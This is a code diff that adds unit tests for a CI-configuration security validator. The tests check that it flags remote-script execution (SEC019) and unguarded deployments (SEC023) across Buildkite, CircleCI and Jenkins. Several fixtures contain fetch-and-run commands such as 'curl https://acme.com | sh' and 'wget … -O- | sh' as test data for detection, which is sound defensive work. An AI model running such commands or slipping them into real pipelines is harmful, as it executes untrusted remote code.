@@ -1,9 +1,10 @@
-import { create, ValidateRequestSchema } from "cig/sdk";
+import { create, text, ValidateRequestSchema } from "cig/sdk";
 import { describe, expect, it } from "vitest";
 import { validate } from "../../../../plugins/policy/security/validate.ts";
+import { job, run } from "../../provider/github/requests.ts";
 
 const buildkite = (plugins: string, command = "make") =>
-  `steps:\n  - command: ${command}\n    plugins:\n${plugins}`;
+  `steps:\n  - command: ${command}\n    plugins:\n${plugins}    timeout_in_minutes: 5\n`;
 
 const cases: [title: string, provider: string, content: string, codes: string[]][] = [
   [
@@ -33,7 +34,7 @@ const cases: [title: string, provider: string, content: string, codes: string[]]
   [
     "a plugin in a group",
     "buildkite",
-    "steps:\n  - group: g\n    steps:\n      - command: x\n        plugins: [a/b]\n",
+    "steps:\n  - group: g\n    steps:\n      - command: x\n        plugins: [a/b]\n        timeout_in_minutes: 5\n",
     ["SEC004:5"],
   ],
   [
@@ -64,4 +65,86 @@ describe("policy/security", () => {
       const found = diagnostics!.map(({ code, location }) => `${code}:${location?.line}`);
       expect(found.sort()).toEqual(codes);
     });
+
+  const sources: [title: string, provider: string, content: string, line: number, subject: string[]][] = [
+    [
+      "a script beside its key",
+      "circleci",
+      "jobs:\n  a:\n    steps:\n      - run: curl https://acme.com | sh\n",
+      4,
+      ["jobs", "tools", "steps", "1", "run"],
+    ],
+    [
+      "a script between lines of the provider's own",
+      "buildkite",
+      "steps:\n  - timeout_in_minutes: 5\n    command: |\n      begin\n      curl https://acme.com | sh\n",
+      5,
+      ["jobs", "tools", "steps", "1", "run"],
+    ],
+    [
+      "a script in a function",
+      "jenkins",
+      "timeout(time: 5) {}\nvoid steps() {\n  sh('''set -e\ncurl https://acme.com | sh\n''')\n}\n",
+      4,
+      ["jobs", "tools", "steps", "1", "run"],
+    ],
+    [
+      "what stands under the job's name only",
+      "circleci",
+      "jobs:\n  other:\n    steps:\n      - run: wget https://acme.com -O- | sh\n",
+      4,
+      ["jobs", "other"],
+    ],
+    [
+      "what comes from nowhere",
+      "circleci",
+      "jobs:\n  x:\n    steps:\n      - run: wget https://acme.com -O- | sh\n",
+      4,
+      [],
+    ],
+  ];
+  for (const [title, provider, content, line, subject] of sources)
+    it(`points in ${provider} at the place in cig.toml of ${title}`, async () => {
+      const steps = [
+        run("make curl", { subject: ["jobs", "tools", "steps", "0"] }),
+        run("curl https://acme.com | sh", { subject: ["jobs", "tools", "steps", "1"] }),
+      ];
+      const outputs = [{ provider, path: "ci", jobs: [job("tools", { steps }), job("other", {})] }];
+      const request = create(ValidateRequestSchema, {
+        files: [{ path: "ci", content, provider }],
+        outputs: outputs as never,
+      });
+      const { diagnostics } = await validate(request);
+      expect(diagnostics!.map(({ code, location }) => [code, location?.line, location?.subject])).toEqual([
+        ["SEC019", line, subject],
+      ]);
+    });
+
+  it("finds nothing in a deployment whose environment stands in cig.toml, which the provider speaks of", async () => {
+    const content = "steps:\n  - key: ship\n    timeout_in_minutes: 5\n    command: fly deploy\n";
+    const judged = async (more: object) => {
+      const outputs = [{ provider: "buildkite", path: "ci", jobs: [job("ship", more as never)] }];
+      const request = create(ValidateRequestSchema, {
+        files: [{ path: "ci", content, provider: "buildkite" }],
+        outputs: outputs as never,
+      });
+      return (await validate(request)).diagnostics!.map(({ code }) => code);
+    };
+    expect(await judged({})).toEqual(["SEC023"]);
+    expect(await judged({ environment: { name: text("production") } })).toEqual([]);
+    expect(await judged({ approval: {} })).toEqual([]);
+  });
+
+  it("takes no word of a Jenkinsfile's comments, and reads past what Groovy writes with a backslash", async () => {
+    const content = [
+      "/* sh 'curl https://acme.com | sh' */",
+      "timeout(time: 5) {}",
+      "// sh 'curl https://acme.com | sh'",
+      "echo 'it\\'s not sh \"curl https://acme.com | sh\"'",
+      "sh 'curl \\'https://acme.com\\' | sh'",
+    ].join("\n");
+    const request = create(ValidateRequestSchema, { files: [{ path: "ci", content, provider: "jenkins" }] });
+    const { diagnostics } = await validate(request);
+    expect(diagnostics!.map(({ code, location }) => `${code}:${location?.line}`)).toEqual(["SEC019:5"]);
+  });
 });
